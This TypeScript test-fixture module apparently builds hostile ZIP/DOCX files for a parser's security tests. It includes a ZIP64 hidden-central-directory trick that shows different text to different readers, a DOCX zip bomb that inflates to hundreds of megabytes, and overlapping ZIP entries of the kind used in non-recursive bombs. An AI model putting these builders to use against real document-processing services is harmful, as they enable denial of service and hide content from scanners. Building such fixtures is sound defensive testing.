/**
 * Hostile ZIPs, the DOCX attacks of issue 17 kept as code: a ZIP64 record that leads a ZIP reader to a
 * second, hidden central directory (with hidden text, or with a bomb), and entries whose bytes overlap.
 */
import { concat, deflateRun, MIB } from "./byte-runs";
import { crc32, makeDocx } from "./document-fixtures";

const encoder = new TextEncoder();

interface ZipPart {
  name: string;
  /** What a reader stores: raw bytes (method 0) or raw deflate (method 8). */
  stored: Uint8Array;
  method: 0 | 8;
  crc: number;
  size: number;
}

function part(name: string, text: string): ZipPart {
  const bytes = encoder.encode(text);
  return { name, stored: bytes, method: 0, crc: crc32(bytes), size: bytes.length };
}

function le(values: readonly [number, 2 | 4 | 8][]): Uint8Array {
  const out = new Uint8Array(values.reduce((sum, [, width]) => sum + width, 0));
  const view = new DataView(out.buffer);
  let at = 0;
  for (const [value, width] of values) {
    if (width === 2) view.setUint16(at, value, true);
    else if (width === 4) view.setUint32(at, value, true);
    else view.setBigUint64(at, BigInt(value), true);
    at += width;
  }
  return out;
}

function localHeader(p: ZipPart): Uint8Array {
  const name = encoder.encode(p.name);
  return concat([
    le([
      [0x04034b50, 4],
      [20, 2],
      [0, 2],
      [p.method, 2],
      [0, 4],
      [p.crc, 4],
      [p.stored.length, 4],
      [p.size, 4],
      [name.length, 2],
      [0, 2],
    ]),
    name,
  ]);
}

function centralHeader(p: ZipPart, offset: number): Uint8Array {
  const name = encoder.encode(p.name);
  return concat([
    le([
      [0x02014b50, 4],
      [45, 2],
      [20, 2],
      [0, 2],
      [p.method, 2],
      [0, 4],
      [p.crc, 4],
      [p.stored.length, 4],
      [p.size, 4],
      [name.length, 2],
      [0, 2],
      [0, 2],
      [0, 2],
      [0, 2],
      [0, 4],
      [offset, 4],
    ]),
    name,
  ]);
}

const DOCX_SHELL = ["[Content_Types].xml", "_rels/.rels"] as const;

/** The parts of a one-paragraph DOCX, from the plain fixture. */
function docxParts(text: string): Map<string, string> {
  const zip = makeDocx([{ text }]);
  const parts = new Map<string, string>();
  // makeDocx stores its parts uncompressed; read them back from the local headers.
  const view = new DataView(zip.buffer, zip.byteOffset, zip.byteLength);
  for (let at = 0; view.getUint32(at, true) === 0x04034b50;) {
    const size = view.getUint32(at + 18, true);
    const nameLength = view.getUint16(at + 26, true);
    const name = new TextDecoder().decode(zip.subarray(at + 30, at + 30 + nameLength));
    parts.set(
      name,
      new TextDecoder().decode(zip.subarray(at + 30 + nameLength, at + 30 + nameLength + size)),
    );
    at += 30 + nameLength + size;
  }
  return parts;
}

/**
 * Finding 2: a ZIP whose 32-bit end record names a directory of `visible` parts, with its directory size
 * set to 0xFFFFFFFF so that a ZIP64-aware reader follows the ZIP64 record to a second directory of
 * `hidden` parts, stored in the same file and listed nowhere else.
 */
export function zip64HiddenDirectory(
  visible: readonly ZipPart[],
  hidden: readonly ZipPart[],
): Uint8Array {
  const parts: Uint8Array[] = [];
  let length = 0;
  const push = (bytes: Uint8Array) => {
    parts.push(bytes);
    length += bytes.length;
  };
  const place = (list: readonly ZipPart[]) =>
    list.map((p) => {
      const offset = length;
      push(localHeader(p));
      push(p.stored);
      return offset;
    });
  const visibleOffsets = place(visible);
  const hiddenOffsets = place(hidden);
  const visibleDirectory = length;
  visible.forEach((p, i) => push(centralHeader(p, visibleOffsets[i] ?? 0)));
  const hiddenDirectory = length;
  hidden.forEach((p, i) => push(centralHeader(p, hiddenOffsets[i] ?? 0)));
  const hiddenSize = length - hiddenDirectory;
  const zip64End = length;
  push(
    le([
      [0x06064b50, 4],
      [44, 8],
      [45, 2],
      [45, 2],
      [0, 4],
      [0, 4],
      [hidden.length, 8],
      [hidden.length, 8],
      [hiddenSize, 8],
      [hiddenDirectory, 8],
    ]),
  );
  push(
    le([
      [0x07064b50, 4],
      [0, 4],
      [zip64End, 8],
      [1, 4],
    ]),
  );
  push(
    le([
      [0x06054b50, 4],
      [0, 2],
      [0, 2],
      [visible.length, 2],
      [visible.length, 2],
      [0xffffffff, 4],
      [visibleDirectory, 4],
      [0, 2],
    ]),
  );
  return concat(parts);
}

/** A DOCX that shows `visibleText` to a 32-bit reader and `hiddenText` to mammoth (finding 2, 1.4 KB). */
export function zip64HiddenTextDocx(visibleText: string, hiddenText: string): Uint8Array {
  const named = (text: string) => [...docxParts(text)].map(([name, body]) => part(name, body));
  return zip64HiddenDirectory(named(visibleText), named(hiddenText));
}

/** A small, valid-looking DOCX hiding a `word/document.xml` that inflates to `inflatedBytes` (finding 2's bomb). */
export async function zip64BombDocx(inflatedBytes = 300 * MIB): Promise<Uint8Array> {
  const shell = docxParts("A harmless page.");
  const visible = [...shell].map(([name, body]) => part(name, body));
  const open =
    '<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>';
  const close = "</w:t></w:r></w:p></w:body></w:document>";
  const bomb = await deflateRun("a", inflatedBytes, "deflate-raw", open, close);
  // The CRC is left 0: computing it over hundreds of MB would only slow the test, and no reader got that far.
  const document = {
    name: "word/document.xml",
    stored: bomb,
    method: 8 as const,
    crc: 0,
    size: open.length + inflatedBytes + close.length,
  };
  const hidden = [...DOCX_SHELL.map((name) => part(name, shell.get(name) ?? "")), document];
  return zip64HiddenDirectory(visible, hidden);
}

/**
 * A ZIP in which one part's bytes contain another part: the second entry's local header sits inside the
 * first entry's data, so the same bytes are read twice (how non-recursive zip bombs multiply).
 */
export function overlappingEntriesZip(): Uint8Array {
  const inner = part("word/document.xml", "<w:document/>");
  const innerLocal = concat([localHeader(inner), inner.stored]);
  const outer = part("[Content_Types].xml", "");
  const outerPart: ZipPart = {
    ...outer,
    stored: innerLocal,
    crc: crc32(innerLocal),
    size: innerLocal.length,
  };
  const outerLocal = localHeader(outerPart);
  const files = concat([outerLocal, innerLocal]);
  const directory = concat([centralHeader(outerPart, 0), centralHeader(inner, outerLocal.length)]);
  return concat([
    files,
    directory,
    le([
      [0x06054b50, 4],
      [0, 2],
      [0, 2],
      [2, 2],
      [2, 2],
      [directory.length, 4],
      [files.length, 4],
      [0, 2],
    ]),
  ]);
}
